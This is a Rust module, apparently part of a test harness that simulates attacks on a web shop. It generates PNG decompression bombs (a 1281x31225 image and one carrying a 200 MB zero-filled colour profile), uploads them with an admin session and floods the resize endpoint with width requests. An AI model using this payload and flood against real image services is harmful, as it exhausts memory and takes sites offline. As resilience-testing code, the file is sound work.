//! Two small files that are large pictures: staff upload them, and strangers ask for narrow ones.

use std::io::Write;

use flate2::write::ZlibEncoder;
use flate2::{Compression, Crc};

use super::{Attack, Outcome, flood};
use crate::crowd::Crowd;
use crate::shop::Shop;
use crate::wire::{PROXY, Request, ask, attacker, connect};

const NUMBER: usize = 16;
/// Those that the shop offers.
const WIDTHS: [u32; 5] = [160, 320, 640, 960, 1280];
const PROFILE: usize = 200_000_000;

pub(super) struct Pictures;

impl Attack for Pictures {
    fn name(&self) -> &'static str {
        "16 ask for ?w= of a PNG of 1281 x 31225 and of one with 200 MB of profile"
    }

    fn start(&self, shop: &Shop) -> Crowd<Outcome> {
        let files = [png(1281, 31_225, 0), png(1300, 100, PROFILE)];
        let (to, admin) = (shop.address(), shop.admin.clone());
        let urls: Vec<String> = files
            .iter()
            .map(|file| {
                let mut stream = connect(PROXY, to, false).expect("connects");
                let answer = ask(&mut stream, &upload(file, &admin)).expect("an answer");
                let url = answer.json()["url"].as_str().map(str::to_owned);
                // One that is refused is no more than a path to ask for.
                url.unwrap_or_else(|| format!("/uploads/refused-{}.png", answer.status))
            })
            .collect();
        flood((attacker(0), to), NUMBER, move |number, asked| {
            let width = WIDTHS[(number + asked) % WIDTHS.len()];
            Request::get(&format!("{}?w={width}", urls[asked % urls.len()]))
        })
    }

    fn tell(&self, outcome: Outcome) -> String {
        format!("{} answers, {} of them pictures", outcome.done, outcome.successes)
    }
}

fn upload(file: &[u8], admin: &str) -> Request {
    let mut form = b"--limite\r\nContent-Disposition: form-data; name=\"file\"; \
        filename=\"foto.png\"\r\nContent-Type: image/png\r\n\r\n"
        .to_vec();
    form.extend(file);
    form.extend(b"\r\n--limite--\r\n");
    Request::form("/api/admin/upload", "limite", form).session(admin)
}

/// A PNG of one colour, with a colour profile of so many bytes.
fn png(width: u32, height: u32, profile: usize) -> Vec<u8> {
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = [width.to_be_bytes(), height.to_be_bytes()].concat();
    // Eight bits a channel, RGB.
    header.extend([8, 2, 0, 0, 0]);
    chunk(&mut file, *b"IHDR", &header);
    if profile > 0 {
        let content = [b"perfil\0\0".as_slice(), &deflated(profile)].concat();
        chunk(&mut file, *b"iCCP", &content);
    }
    let row = 1 + 3 * width as usize;
    chunk(&mut file, *b"IDAT", &deflated(row * height as usize));
    chunk(&mut file, *b"IEND", &[]);
    file
}

fn chunk(file: &mut Vec<u8>, kind: [u8; 4], content: &[u8]) {
    let length = u32::try_from(content.len()).expect("a small chunk");
    let mut crc = Crc::new();
    crc.update(&kind);
    crc.update(content);
    file.extend(length.to_be_bytes());
    file.extend(kind);
    file.extend(content);
    file.extend(crc.sum().to_be_bytes());
}

/// So many zeros.
fn deflated(length: usize) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    let piece = vec![0; 1024 * 1024];
    for at in (0..length).step_by(piece.len()) {
        encoder.write_all(&piece[..piece.len().min(length - at)]).expect("in memory");
    }
    encoder.finish().expect("in memory")
}
